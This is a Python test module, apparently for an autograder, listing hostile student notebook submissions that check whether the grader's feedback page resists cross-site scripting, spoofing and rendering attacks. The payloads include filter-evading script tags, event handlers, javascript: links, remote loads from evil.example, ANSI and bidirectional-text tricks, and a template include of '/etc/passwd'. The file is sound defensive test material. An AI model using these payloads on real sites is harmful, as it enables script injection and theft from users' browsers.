"""J - rendering: scripts and spoofs that are to run in the browser of whoever reads the feedback."""
# ruff: noqa: E501 - the long lines are students' code

from .base import attack, code_cell


def _markdown_cells(notebook):
    markdown = {
        "cell_type": "markdown",
        "id": "own-markdown",
        "metadata": {},
        "attachments": {"a": {"text/html": "<script>mallory()</script>"}},
    }
    text = "<script>mallory('markdown')</script>\n\n[link](javascript:mallory('link)'))\n\n![x](x\" onerror=\"mallory('image'))"
    notebook["cells"].append(markdown | {"source": text})
    notebook["cells"].append(code_cell("'''</code></pre></div><script>mallory('source')</script>'''"))


def _metadata(notebook):
    notebook["metadata"]["title"] = "</title><script>mallory('title')</script>"
    notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"</script><script>mallory('state')</script>": {}}}
    }
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["\"><script>mallory('tag')</script>"]


SAFE = {"earns": 6}

ATTACKS = [
    attack(
        "script-in-html",
        "Displays HTML with a script, in several spellings that filters miss.",
        "smooth",
        """
        from IPython.display import HTML, display
        display(HTML("<script>mallory('html')</script><scr<script>ipt>mallory(2)</script><SCRIPT/x>mallory(3)</SCRIPT>"))
        display(HTML("<script src=//evil.example/mallory.js></script>"))
        """,
        **SAFE,
    ),
    attack(
        "event-handlers",
        "Displays elements with event handlers, also without quotes, in capitals and after odd separators.",
        "search",
        """
        from IPython.display import HTML, display
        for text in ("<img src=x onerror=mallory(1)>", "<body ONLOAD=mallory(2)>", "<svg/onload=mallory(3)>",
                     "<details open ontoggle='mallory(4)'>", "<img src=x\\x0conerror=mallory(5)>",
                     "<input autofocus onfocus=mallory(6)>", "<b style='x' onmouseover\\n=\\nmallory(7)>x</b>"):
            display(HTML(text))
        """,
        **SAFE,
    ),
    attack(
        "svg-scripts",
        "Displays SVG images with scripts, foreign objects, animations and links.",
        "deal",
        """
        from IPython.display import SVG, display
        parts = ("<script>mallory('svg')</script>", "<foreignObject><iframe srcdoc='<script>mallory()</script>'/></foreignObject>",
                 "<a href='javascript:mallory()'><text>x</text></a>", "<image href='http://evil.example/mallory'/>",
                 "<animate attributeName='href' values='javascript:mallory()'/>", "<set onbegin='mallory()' />")
        for part in parts:
            display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg'>{part}</svg>"))
        """,
        **SAFE,
    ),
    attack(
        "javascript-outputs",
        "Publishes JavaScript, and data of types that a page may hand to a script.",
        "register",
        """
        from IPython.display import Javascript, display
        display(Javascript("mallory('javascript')"))
        for kind in ("application/javascript", "text/javascript", "application/vnd.jupyter.widget-view+json", "text/vnd.mermaid",
                     "application/vnd.plotly.v1+json", "application/vnd.vega.v5+json", "text/x-mallory<script>"):
            display({kind: "mallory('x')</script><script>mallory(1)</script>", "text/plain": "x"}, raw=True)
        """,
        **SAFE,
    ),
    attack(
        "markdown-and-latex",
        "Displays Markdown and LaTeX with javascript: links, raw HTML and MathJax commands that make links.",
        "smooth",
        """
        from IPython.display import Latex, Markdown, display
        display(Markdown("[a](javascript:mallory(1)) <script>mallory(2)</script> [b](java\\tscript:mallory(3)) ![c](x){onerror=mallory(4)}"))
        display(Markdown("[d](data:text/html;base64,PHNjcmlwdD5tYWxsb3J5KCk8L3NjcmlwdD4=) <a href='&#106;avascript:mallory(5)'>e</a>"))
        display(Latex(r"$\\href{javascript:mallory(6)}{x} \\unicode{<script>mallory(7)</script>} \\style{background:url(//evil.example)}{y}$"))
        """,
        **SAFE,
    ),
    attack(
        "ansi-bomb",
        "Prints terminal sequences: colours by the hundred thousand, cursor moves, titles, links, carriage returns.",
        "search",
        """
        print("\\x1b[31m\\x1b[1m" * 100_000 + "x")
        print("\\x1b]8;;javascript:mallory(1)\\x1b\\\\link\\x1b]8;;\\x1b\\\\ \\x1b]0;mallory\\x07 \\x1b[2J\\x1b[H \\x9b31m")
        print("\\x1b[38;2;<script>mallory(2)</script>m \\x1b[0;\\"onmouseover=mallory(3)m")
        print("0 of 8 points\\r8 of 8 points" + "\\b" * 1000 + "\\x7f")
        """,
        **SAFE,
    ),
    attack(
        "html-in-an-error",
        "Raises an exception whose class name and message are HTML, in its own cell and in the tests.",
        "register",
        """
        Evil = type("<img src=x onerror=mallory(1)>", (Exception,), {"__module__": "</pre><script>mallory(2)</script>"})

        class Register:
            largest = None
            def add(self, amount):
                raise Evil("</pre></div><script>mallory(3)</script><!--")

        raise Evil("</pre></div><script>mallory(4)</script>")
        """,
    ),
    attack(
        "html-in-the-students-id",
        "Hands in under a name that is HTML.",
        "smooth",
        student="<script>mallory(1)<script>",
        refused=True,
        **SAFE,
    ),
    attack(
        "frames-and-forms",
        "Displays frames, objects, forms, meta refreshes, base addresses and style sheets that call elsewhere.",
        "deal",
        """
        from IPython.display import HTML, IFrame, display
        display(IFrame("javascript:mallory(1)", 10, 10))
        for text in ("<iframe srcdoc='<script>mallory(2)</script>'></iframe>", "<object data='data:text/html,<script>mallory(3)</script>'>",
                     "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<base href='http://evil.example/'>",
                     "<link rel=stylesheet href=http://evil.example/x.css>", "<style>@import 'http://evil.example/y.css'; body{display:none}</style>",
                     "<form action=http://evil.example/><button>Show my points</button></form>", "<embed src=//evil.example/z>",
                     "<video poster=http://evil.example/v></video>", "<img srcset='http://evil.example/w 2x'>"):
            display(HTML(text))
        """,
        **SAFE,
    ),
    attack(
        "page-swallowed",
        "Prints beginnings of elements that swallow the rest of the page, so that no verdict can be read.",
        "search",
        """
        from IPython.display import HTML, display
        for text in ("<!--", "<plaintext>", "<textarea>", "<xmp>", "</body></html>", "<noscript>", "<![CDATA[", "<template>",
                     "<div style='position:fixed;inset:0;background:white;z-index:9999'>You have 32 of 32 points.</div>", "<select>"):
            print(text)
            display(HTML(text))
        """,
        **SAFE,
    ),
    attack(
        "other-peoples-names",
        "Names elements as the page's own scripts do, and hides text with characters that change its direction.",
        "deal",
        """
        from IPython.display import HTML, display
        display(HTML("<form id=document name=querySelector><input name=innerHTML><a id=MathJax href=javascript:mallory(1)>"))
        print("\\u202e8 fo 8\\u202c \\u2066points\\u2069 \\u200b\\u200d\\ufeff\\u115f")
        print("\\ud83d \\udc00 \\x00 \\ufffe")
        """,
        **SAFE,
    ),
    attack(
        "nested-html",
        "Displays a hundred thousand nested elements and a table of as many columns.",
        "smooth",
        """
        from IPython.display import HTML, display
        display(HTML("<div>" * 100_000 + "<script>mallory()</script>"))
        display(HTML("<table><td>" * 30_000 + "<table><colgroup span=1000000>"))
        """,
        **SAFE,
    ),
    attack(
        "forged-images",
        "Publishes PNG and JPEG data that closes its attribute, and an image of a script's type.",
        "register",
        """
        from IPython.display import display
        display({"image/png": "AAAA\\"><script>mallory(1)</script>", "text/plain": "x"}, raw=True)
        display({"image/jpeg": "x' onerror='mallory(2)"}, metadata={"image/jpeg": {"width": "1\\" onload=\\"mallory(3)"}}, raw=True)
        display({"image/svg+xml": ["<svg onload=mallory(4)>"], "text/html": ["<script>", "mallory(5)", "</script>"]}, raw=True)
        """,
        **SAFE,
    ),
    attack("markdown-cells", "Adds Markdown and code cells of his own with scripts in text, links, images and attachments.", "search", notebook=_markdown_cells, **SAFE),
    attack("scripts-in-metadata", "Puts scripts into the notebook's title, its widget state and its tags.", "deal", notebook=_metadata, **SAFE),
    attack(
        "comments-in-the-source",
        "The source of a right answer ends elements and starts scripts.",
        "deal",
        """
        # </code></pre></textarea></script><script>mallory(1)</script>
        "`````</div> <img src=x onerror=mallory(2)> {{ mallory }} {% include '/etc/passwd' %} ${mallory}"
        """,
        **SAFE,
    ),
]  # fmt: skip
